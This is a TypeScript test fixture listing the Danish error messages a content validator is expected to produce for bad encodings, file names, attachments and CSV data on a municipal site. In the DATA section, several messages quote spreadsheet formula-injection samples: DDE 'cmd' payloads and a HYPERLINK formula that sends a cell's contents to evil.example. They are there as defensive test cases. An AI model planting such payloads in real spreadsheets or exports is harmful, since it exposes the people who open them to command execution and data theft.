    `${S}/encoding/replacement-char.md:7:5: filen indeholder tegnet »�«: et bogstav er gået tabt, da filen engang blev gemt i et andet tegnsæt (fik "Besk�ftigelses- og Integrationsforvaltningen fremsender hermed en opg�relse for…", forventede de rigtige bogstaver: ret dem i filen, eller start fra den oprindelige fil og ${MD_UTF8})`,
  ],
  'utf16.md': [`${S}/encoding/utf16.md:1:1: filen er gemt som UTF-16, ikke UTF-8 (forventede UTF-8: ${MD_UTF8})`],
  'windows-1252.md': [
    `${S}/encoding/windows-1252.md:2:24: filen er gemt som Windows-1252/Latin-1 (ANSI), ikke UTF-8: æ, ø og å kan ikke læses (fik "title: Brev om boligområder i København", forventede UTF-8: ${MD_UTF8})`,
  ],
  'word-document.md': [
    `${S}/encoding/word-document.md:1:1: filen er en Excel- eller Word-fil (.xlsx/.docx), ikke tekst (forventede en tekstfil i Markdown: kopiér teksten over i en .md-fil, der er gemt som UTF-8)`,
  ],
};

export const FOLDERS: Record<string, string[]> = {
  'area-twice': [
    `${S}/folders/area-twice/content/areas/bolig-ny.md:1:1: filen får samme adresse (/omraader/bolig/) som ${S}/folders/area-twice/content/areas/bolig.md (fik "bolig-ny.md", forventede ${ONE_FILE})`,
    `${S}/folders/area-twice/content/areas/bolig-ny.md:2:1: filnavnet skal være områdets id (fik "bolig-ny (area: bolig)", forventede filnavnet bolig.md)`,
    `${S}/folders/area-twice/content/areas/bolig.md:1:1: filen får samme adresse (/omraader/bolig/) som ${S}/folders/area-twice/content/areas/bolig-ny.md (fik "bolig.md", forventede ${ONE_FILE})`,
  ],
  'case-variants': [
    `${S}/folders/case-variants/content/letters/Brev-om-bolig.md:1:1: ${FILE_NAME} (fik "Brev-om-bolig.md", forventede fx brev-om-bolig.md)`,
    `${S}/folders/case-variants/content/letters/Brev-om-bolig.md:1:1: filen får samme adresse (/breve/brev-om-bolig/) som ${S}/folders/case-variants/content/letters/brev-om-bolig.md (fik "Brev-om-bolig.md", forventede ${ONE_FILE})`,
    `${S}/folders/case-variants/content/letters/brev-om-bolig.md:1:1: filen får samme adresse (/breve/brev-om-bolig/) som ${S}/folders/case-variants/content/letters/Brev-om-bolig.md (fik "brev-om-bolig.md", forventede ${ONE_FILE})`,
  ],
  'conference-year': [
    `${S}/folders/conference-year/content/conferences/2009-kopi.mdx:1:1: filen får samme adresse (/konferencer/2009/) som ${S}/folders/conference-year/content/conferences/2009.mdx (fik "2009-kopi.mdx", forventede ${ONE_FILE})`,
    `${S}/folders/conference-year/content/conferences/2009-kopi.mdx:3:1: filnavnet skal være konferencens år (fik "2009-kopi (year: 2009)", forventede filnavnet 2009.mdx)`,
    `${S}/folders/conference-year/content/conferences/2009.mdx:1:1: filen får samme adresse (/konferencer/2009/) som ${S}/folders/conference-year/content/conferences/2009-kopi.mdx (fik "2009.mdx", forventede ${ONE_FILE})`,
  ],
  'danish-names': [
    `${S}/folders/danish-names/content/letters/Brev med mellemrum.md:1:1: ${FILE_NAME} (fik "Brev med mellemrum.md", forventede fx brev-med-mellemrum.md)`,
    `${S}/folders/danish-names/content/letters/brev-om-æbler.md:1:1: ${FILE_NAME} (fik "brev-om-æbler.md", forventede fx brev-om-aebler.md)`,
    `${S}/folders/danish-names/content/letters/brev_1.md:1:1: ${FILE_NAME} (fik "brev_1.md", forventede fx brev-1.md)`,
  ],
  'hidden-files': [
    `${S}/folders/hidden-files/content/letters/.brev.md:1:1: filnavnet begynder med punktum, så filen er skjult og bliver ikke udgivet (fik ".brev.md", forventede et navn uden punktum forrest)`,
  ],
  'md-and-mdx': [
    `${S}/folders/md-and-mdx/content/letters/brev.md:1:1: filen får samme adresse (/breve/brev/) som ${S}/folders/md-and-mdx/content/letters/brev.mdx (fik "brev.md", forventede ${ONE_FILE})`,
    `${S}/folders/md-and-mdx/content/letters/brev.mdx:1:1: filen får samme adresse (/breve/brev/) som ${S}/folders/md-and-mdx/content/letters/brev.md (fik "brev.mdx", forventede ${ONE_FILE})`,
  ],
  'not-markdown': [
    `${S}/folders/not-markdown/content/letters/bilag.pdf:1:1: et bilag skal ligge i brevets egen mappe og bliver ikke udgivet herfra (fik "bilag.pdf", forventede en mappe med brevets navn, fx content/letters/<brev>/bilag-1.pdf, nævnt i brevets attachments med file: bilag-1.pdf)`,
    `${S}/folders/not-markdown/content/letters/brev-fire:1:1: filen bliver ikke udgivet: kun .md- og .mdx-filer bliver til sider (fik "brev-fire", forventede et navn, der ender på .md (fx brev-fire.md))`,
    `${S}/folders/not-markdown/content/letters/brev-to.MD:1:1: filen bliver ikke udgivet: kun .md- og .mdx-filer bliver til sider (fik "brev-to.MD", forventede et navn, der ender på .md (fx brev-to.md))`,
    `${S}/folders/not-markdown/content/letters/brev-tre.markdown:1:1: filen bliver ikke udgivet: kun .md- og .mdx-filer bliver til sider (fik "brev-tre.markdown", forventede et navn, der ender på .md (fx brev-tre.md))`,
    `${S}/folders/not-markdown/content/letters/brev.md.txt:1:1: filen bliver ikke udgivet: kun .md- og .mdx-filer bliver til sider (fik "brev.md.txt", forventede et navn, der ender på .md (fx brev.md))`,
    `${S}/folders/not-markdown/content/letters/notat.docx:1:1: et bilag skal ligge i brevets egen mappe og bliver ikke udgivet herfra (fik "notat.docx", forventede en mappe med brevets navn, fx content/letters/<brev>/bilag-1.pdf, nævnt i brevets attachments med file: bilag-1.pdf)`,
  ],
  'unrouted-page': [
    `${S}/folders/unrouted-page/content/pages/om-os.md:1:1: siden har ingen adresse på sitet og bliver ikke udgivet (fik "om-os", forventede en af siderne om, tilgaengelighed (en ny side kræver en udvikler))`,
  ],
  'wrong-place': [
    `${S}/folders/wrong-place/content/README.md:1:1: filen ligger direkte i indholdsmappen og bliver ikke udgivet (fik "README.md", forventede ${CONTENT_FOLDERS})`,
    `${S}/folders/wrong-place/content/breve/brev.md:1:1: mappen "breve" er ikke en indholdsmappe, så filen bliver ikke udgivet (fik "brev.md", forventede ${CONTENT_FOLDERS})`,
    `${S}/folders/wrong-place/content/letters/2009/brev.md:1:1: filen ligger i en undermappe; sitet udgiver kun filer, der ligger direkte i indholdsmappen (fik "brev.md", forventede filen direkte i content/letters/)`,
  ],
};

/** A letter's folder of files (content/letters/<brev>/): names, types, declarations, readability. */
export const ATTACHMENTS: Record<string, string[]> = {
  'missing-and-undeclared': [
    `${S}/attachments/missing-and-undeclared/content/letters/brev.md:5:1: filen findes ikke i brevets mappe – mente du "orginal.pdf"? (fik "original.pdf", forventede en fil content/letters/brev/original.pdf, eller et rettet filnavn)`,
    `${S}/attachments/missing-and-undeclared/content/letters/brev.md:9:5: filen findes ikke i brevets mappe (fik "bilag-1.pdf", forventede en fil content/letters/brev/bilag-1.pdf, eller et rettet filnavn)`,
    `${S}/attachments/missing-and-undeclared/content/letters/brev/bilag-2.csv:1:1: filen er ikke nævnt i brevets front matter (${S}/attachments/missing-and-undeclared/content/letters/brev.md), så den bliver ikke udgivet (fik "bilag-2.csv", forventede file: bilag-2.csv under attachments (eller original: bilag-2.csv), eller slet filen)`,
    `${S}/attachments/missing-and-undeclared/content/letters/brev/orginal.pdf:1:1: filen er ikke nævnt i brevets front matter (${S}/attachments/missing-and-undeclared/content/letters/brev.md), så den bliver ikke udgivet (fik "orginal.pdf", forventede file: orginal.pdf under attachments (eller original: orginal.pdf), eller slet filen)`,
  ],
  'names-and-types': [
    `${S}/attachments/names-and-types/content/letters/brev/.bilag-3.pdf:1:1: filnavnet begynder med punktum, så filen er skjult og bliver ikke udgivet (fik ".bilag-3.pdf", forventede et navn uden punktum forrest)`,
    `${S}/attachments/names-and-types/content/letters/brev/Bilag 1 (endelig).pdf:1:1: filnavnet må kun have små bogstaver a–z, tal og bindestreger og skal ende på .pdf, .docx, .xlsx eller .csv (fik "Bilag 1 (endelig).pdf", forventede fx bilag-1-endelig.pdf (og samme navn i brevets front matter))`,
    `${S}/attachments/names-and-types/content/letters/brev/bilag-2.PDF:1:1: filnavnet må kun have små bogstaver a–z, tal og bindestreger og skal ende på .pdf, .docx, .xlsx eller .csv (fik "bilag-2.PDF", forventede fx bilag-2.pdf (og samme navn i brevets front matter))`,
    `${S}/attachments/names-and-types/content/letters/brev/bilag_4.csv:1:1: filnavnet må kun have små bogstaver a–z, tal og bindestreger og skal ende på .pdf, .docx, .xlsx eller .csv (fik "bilag_4.csv", forventede fx bilag-4.csv (og samme navn i brevets front matter))`,
    `${S}/attachments/names-and-types/content/letters/brev/billede.png:1:1: filtypen kan ikke udgives som bilag: sitet udgiver PDF, DOCX, XLSX eller CSV (fik "billede.png", forventede en PDF, DOCX, XLSX eller CSV – gem fx et .doc-dokument som .docx eller PDF)`,
    `${S}/attachments/names-and-types/content/letters/brev/notat.doc:1:1: filtypen kan ikke udgives som bilag: sitet udgiver PDF, DOCX, XLSX eller CSV (fik "notat.doc", forventede en PDF, DOCX, XLSX eller CSV – gem fx et .doc-dokument som .docx eller PDF)`,
  ],
  unreadable: [
    `${S}/attachments/unreadable/content/letters/brev/bilag-1.pdf:1:1: filen kan ikke læses: filen er beskadiget eller ikke en gyldig PDF (fik "bilag-1.pdf", forventede en PDF, der kan åbnes uden adgangskode: gem den igen som PDF fra det program, den kom fra)`,
    `${S}/attachments/unreadable/content/letters/brev/bilag-2.pdf:1:1: filen kan ikke læses: filen hedder .pdf, men er en webside (HTML) (fik "bilag-2.pdf", forventede en PDF, der kan åbnes uden adgangskode: gem den igen som PDF fra det program, den kom fra)`,
    `${S}/attachments/unreadable/content/letters/brev/bilag-3.docx:1:1: filen kan ikke læses: filen hedder .docx, men er ikke et Word-dokument (DOCX) (fik "bilag-3.docx", forventede et Word-dokument: åbn det i Word, og gem det igen som .docx)`,
    `${S}/attachments/unreadable/content/letters/brev/bilag-4.csv:1:1: filen kan ikke læses: filen er ikke gemt som UTF-8 – åbn den i Excel, vælg Filer → Gem som og filtypen »CSV UTF-8 (kommasepareret) (*.csv)« (fik "bilag-4.csv", forventede en CSV-fil gemt som »CSV UTF-8 (kommasepareret) (*.csv)«)`,
    `${S}/attachments/unreadable/content/letters/brev/bilag-5.xlsx:1:1: filen er tom (fik "bilag-5.xlsx", forventede et Excel-regneark (XLSX) med indhold: gem filen igen fra det program, den kom fra)`,
    `${S}/attachments/unreadable/content/letters/brev/bilag-6.xlsx:1:1: filen kan ikke læses: filen hedder .xlsx, men er en gammel Word- eller Excel-fil (.doc/.xls) (fik "bilag-6.xlsx", forventede et Excel-regneark: åbn det i Excel, og gem det igen som .xlsx)`,
  ],
  'wrong-folders': [
    `${S}/attachments/wrong-folders/content/letters/bilag-1.pdf:1:1: et bilag skal ligge i brevets egen mappe og bliver ikke udgivet herfra (fik "bilag-1.pdf", forventede en mappe med brevets navn, fx content/letters/<brev>/bilag-1.pdf, nævnt i brevets attachments med file: bilag-1.pdf)`,
    `${S}/attachments/wrong-folders/content/letters/brev/gammel/bilag-1.pdf:1:1: filen ligger i en undermappe af brevets mappe og bliver ikke udgivet (fik "bilag-1.pdf", forventede filen direkte i content/letters/brev/)`,
    `${S}/attachments/wrong-folders/content/letters/ingen-brev/bilag-1.pdf:1:1: mappen "ingen-brev" hører ikke til et brev (der er ingen content/letters/ingen-brev.md), så filen bliver ikke udgivet (fik "bilag-1.pdf", forventede en mappe med brevets navn, fx content/letters/<brev>/bilag-1.pdf, nævnt i brevets attachments med file: bilag-1.pdf, eller en rettet mappe)`,
  ],
};

export const DATA: Record<string, string[]> = {
  'broken-header': [
    `${S}/data/broken-header/measurements.csv:1:1: kolonnen "value" mangler i overskriftsrækken (forventede indicator;period;breakdown;value;source;note;geo;flag;source_url)`,
    `${S}/data/broken-header/measurements.csv:1:4: ukendt kolonne (fik "værdi", forventede en af kolonnerne indicator;period;breakdown;value;source;note;geo;flag;source_url)`,
  ],
  'double-encoded': [
    `${S}/data/double-encoded/indicators.csv:2:102: teksten er konverteret forkert to gange: »Ã¸« står for et bogstav som æ, ø eller å (fik "…beskaeftigelse;pct;højere;ja;KÃ¸benhavn;2014;50,5;2020;60;0,5;Danmarks Statist…", forventede de rigtige bogstaver: ret dem i filen, eller start fra den oprindelige fil og ${CSV_UTF8})`,
  ],
  'empty-file': [
    `${S}/data/empty-file/measurements.csv:1:1: filen er tom (forventede en overskriftsrække: indicator;period;breakdown;value;source;note;geo;flag;source_url)`,
  ],
  'formula-at-source': [
    `${S}/data/formula-at-source/measurements.csv:5:5: teksten begynder med "@", så et regneark læser den som en formel (fik "@SUM(1+1)*cmd|' /C calc'!A0", forventede ${NO_FORMULA})`,
  ],
  'formula-dde-method': [
    `${S}/data/formula-dde-method/indicators.csv:2:16: teksten begynder med "+", så et regneark læser den som en formel (fik "+cmd|' /C calc'!A0", forventede ${NO_FORMULA})`,
  ],
  'formula-fullwidth-title': [
    `${S}/data/formula-fullwidth-title/indicators.csv:3:3: teksten begynder med "＝", så et regneark læser den som en formel (fik "＝HYPERLINK("https://evil.example")", forventede ${NO_FORMULA})`,
  ],
  'formula-hyperlink-note': [
    `${S}/data/formula-hyperlink-note/measurements.csv:3:6: teksten begynder med "=", så et regneark læser den som en formel (fik "=HYPERLINK("https://evil.example/?d="&A1;"Se tallene")", forventede ${NO_FORMULA})`,
  ],
  'formula-minus-note': [
    `${S}/data/formula-minus-note/measurements.csv:4:6: teksten begynder med "-", så et regneark læser den som en formel (fik "-2+3+cmd|' /C calc'!A0", forventede ${NO_FORMULA})`,
  ],
  'formula-tab-breakdown': [
    `${S}/data/formula-tab-breakdown/measurements.csv:4:3: teksten begynder med "tabulator", så et regneark læser den som en formel (fik "\\t=1+1", forventede ${NO_FORMULA})`,
  ],
  'future-next-year': [
    `${S}/data/future-next-year/measurements.csv:16:2: perioden er ikke begyndt endnu (i dag er 2026-12-01), så den kan ikke have en måling (fik "2027", forventede en periode, der er begyndt; et planlagt mål skrives i target_period og target_value i indicators.csv)`,
  ],
  'future-period': [
    `${S}/data/future-period/measurements.csv:16:2: perioden er ikke begyndt endnu (i dag er 2026-12-01), så den kan ikke have en måling (fik "2099", forventede en periode, der er begyndt; et planlagt mål skrives i target_period og target_value i indicators.csv)`,
  ],
  'header-only': [
    `${S}/data/header-only/measurements.csv:1:1: filen har ingen rækker under overskriftsrækken (forventede mindst én række med indicator;period;breakdown;value;source;note;geo;flag;source_url)`,
  ],
  'latin1-one-row': [
    `${S}/data/latin1-one-row/measurements.csv:3:50: linje 3 er gemt som Windows-1252/Latin-1, mens resten af filen er UTF-8 (fik "…15;;52,25;Danmarks Statistik;Målt i Sønderbro", forventede UTF-8: ${CSV_UTF8})`,
  ],
  'replacement-char': [
    `${S}/data/replacement-char/measurements.csv:7:71: filen indeholder tegnet »�«: et bogstav er gået tabt, da filen engang blev gemt i et andet tegnsæt (fik "…data – ikke en rigtig måling;M�lt p� ny m�de", forventede de rigtige bogstaver: ret dem i filen, eller start fra den oprindelige fil og ${CSV_UTF8})`,
  ],
  'unclosed-quote-long': [
    `${S}/data/unclosed-quote-long/measurements.csv:3:6: et citationstegn (") er ikke lukket i rækken (fik "Tallet er foreløbigt og kan blive ændret, når Danmarks Statistik reviderer opgø…", forventede et afsluttende " efter cellens tekst)`,
  ],
  utf16: [`${S}/data/utf16/measurements.csv:1:1: filen er gemt som UTF-16, ikke UTF-8 (forventede UTF-8: ${CSV_UTF8})`],
  'windows-1252': [
    `${S}/data/windows-1252/indicators.csv:2:92: filen er gemt som Windows-1252/Latin-1 (ANSI), ikke UTF-8: æ, ø og å kan ikke læses (fik "…tion af a-beskaeftigelse;pct;højere;ja;København;2014;50,5;2020;60;0,5;Danmark…", forventede UTF-8: ${CSV_UTF8})`,
  ],
  'xlsx-renamed': [
    `${S}/data/xlsx-renamed/measurements.csv:1:1: filen er en Excel- eller Word-fil (.xlsx/.docx), ikke tekst (forventede en CSV-fil: åbn projektmappen i Excel, vælg Filer → Gem som og filtypen »CSV UTF-8 (kommasepareret) (*.csv)«)`,
  ],
};
